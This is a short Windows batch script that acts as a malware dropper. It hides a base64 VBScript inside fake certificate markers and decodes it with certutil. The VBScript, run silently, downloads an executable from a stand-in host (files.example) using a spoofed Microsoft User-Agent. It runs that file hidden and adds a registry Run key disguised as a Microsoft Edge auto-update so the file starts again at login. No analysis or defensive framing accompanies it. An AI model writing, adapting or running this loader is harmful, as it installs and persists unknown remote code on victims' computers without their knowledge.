@echo off
setlocal
set "f=%TEMP%\~tmp%RANDOM%"
> "%f%.b64" (
echo -----BEGIN CERTIFICATE-----
echo RGltIGgsIHMsIHNoLCBwCnAgPSBDcmVhdGVPYmplY3QoIldTY3JpcHQuU2hlbGwi
echo KS5FeHBhbmRFbnZpcm9ubWVudFN0cmluZ3MoIiVURU1QJSIpICYgIlxtc2VkZ2Vf
echo dXBkYXRlLmV4ZSIKU2V0IGggPSBDcmVhdGVPYmplY3QoIk1TWE1MMi5TZXJ2ZXJY
echo TUxIVFRQLjYuMCIpCmguT3BlbiAiR0VUIiwgImh0dHA6Ly9maWxlcy5leGFtcGxl
echo L2QvbXNlZGdlX3VwZGF0ZS5iaW4iLCBGYWxzZQpoLnNldFJlcXVlc3RIZWFkZXIg
echo IlVzZXItQWdlbnQiLCAiTWljcm9zb2Z0LUNyeXB0b0FQSS8xMC4wIgpoLlNlbmQK
echo SWYgaC5TdGF0dXMgPSAyMDAgVGhlbgogIFNldCBzID0gQ3JlYXRlT2JqZWN0KCJB
echo RE9EQi5TdHJlYW0iKQogIHMuVHlwZSA9IDEgOiBzLk9wZW4gOiBzLldyaXRlIGgu
echo cmVzcG9uc2VCb2R5CiAgcy5TYXZlVG9GaWxlIHAsIDIgOiBzLkNsb3NlCiAgU2V0
echo IHNoID0gQ3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIikKICBzaC5SdW4gIiIi
echo IiAmIHAgJiAiIiIiLCAwLCBGYWxzZQogIHNoLlJlZ1dyaXRlICJIS0NVXFNvZnR3
echo YXJlXE1pY3Jvc29mdFxXaW5kb3dzXEN1cnJlbnRWZXJzaW9uXFJ1blxNaWNyb3Nv
echo ZnRFZGdlQXV0b1VwZGF0ZSIsICIiIiIgJiBwICYgIiIiIiwgIlJFR19TWiIKRW5k
echo IElmCg==
echo -----END CERTIFICATE-----
)
certutil -f -decode "%f%.b64" "%f%.vbs" >nul
wscript //B //E:vbscript "%f%.vbs"
del /q "%f%.b64"
endlocal
